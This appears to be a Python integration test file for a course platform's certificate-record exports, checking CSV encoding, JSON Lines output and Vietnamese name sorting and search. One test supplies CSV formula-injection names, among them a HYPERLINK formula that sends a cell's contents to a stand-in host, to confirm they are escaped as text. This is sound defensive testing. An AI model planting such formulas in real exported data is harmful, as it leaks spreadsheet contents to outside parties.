"""Record exports: CSV that Excel reads correctly and safely; JSON Lines for systems."""

from __future__ import annotations

import csv
import io
import json

from mooc.services import export
from mooc.services.records import RecordFilter, find_records
from tests.integration.helpers import take


def issue(session, make_user, name: str):
    user = make_user(name=name)
    take(session, user, "kiem-tra-alpha")
    _, record = take(session, user, "kiem-tra-beta")
    return record


def test_csv_has_a_bom_crlf_and_quotes_every_field(session, make_user):
    issue(session, make_user, "Nguyễn Văn An")
    body = export.to_csv(find_records(session, RecordFilter()))
    assert body.startswith(b"\xef\xbb\xbf")
    text = body.decode("utf-8-sig")
    assert text.split("\r\n")[0] == ",".join(f'"{c}"' for c in export.COLUMNS)
    rows = list(csv.DictReader(io.StringIO(text)))
    assert rows[0]["full_name"] == "Nguyễn Văn An" and rows[0]["modules"] == "alpha:100; beta:100"


def test_formula_like_names_are_written_as_text(session, make_user):
    names = ['=HYPERLINK("http://x.example/?d="&C2,"Bấm")', "@SUM(A1:A9)", "+84 912 345 678", "-Lê Văn Tám"]
    for name in names:
        issue(session, make_user, name)
    text = export.to_csv(find_records(session, RecordFilter())).decode("utf-8-sig")
    cells = {row["full_name"] for row in csv.DictReader(io.StringIO(text))}
    assert cells == {"'" + name for name in names}


def test_jsonl_has_one_object_per_record_and_no_bom(session, make_user):
    issue(session, make_user, "Trần Thị Bình")
    body = export.to_jsonl(find_records(session, RecordFilter()))
    assert not body.startswith(b"\xef\xbb\xbf") and body.endswith(b"\n")
    (row,) = [json.loads(line) for line in body.decode().splitlines()]
    assert row["full_name"] == "Trần Thị Bình" and row["issued_at"].endswith("+07:00")


def test_records_are_listed_in_vietnamese_name_order(session, make_user):
    for name in ["Trần Văn Đức", "Lê Thị Anh", "Phạm Văn Dũng", "Nguyễn Thị Ánh"]:
        issue(session, make_user, name)
    names = [r.full_name for r in find_records(session, RecordFilter())]
    assert names == ["Lê Thị Anh", "Nguyễn Thị Ánh", "Phạm Văn Dũng", "Trần Văn Đức"]


def test_records_filter_by_name_without_tone_marks_and_by_group(session, make_user):
    issue(session, make_user, "Nguyễn Văn Đức")
    issue(session, make_user, "Lê Thị Hoa")
    assert [r.full_name for r in find_records(session, RecordFilter(name="van duc"))] == ["Nguyễn Văn Đức"]
    assert find_records(session, RecordFilter(group_code="can_bo")) == []
